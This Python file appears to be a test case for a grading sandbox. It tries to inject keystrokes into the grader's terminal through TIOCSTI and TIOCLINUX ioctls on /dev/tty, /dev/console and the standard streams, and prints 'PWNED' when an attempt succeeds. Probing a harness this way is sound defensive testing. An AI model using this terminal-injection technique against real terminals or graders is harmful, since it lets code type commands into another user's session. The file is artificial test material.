"""Type commands into the terminal of whoever grades.

A safe grader gives no terminal, and refuses to type.

Expected: passed, 10 points
"""

import fcntl
import os

for place in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        handle = os.open(place, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for request in (0x5412, 0x541C):
        try:
            fcntl.ioctl(handle, request, b"x")
            print("PWNED", place)
        except OSError:
            pass
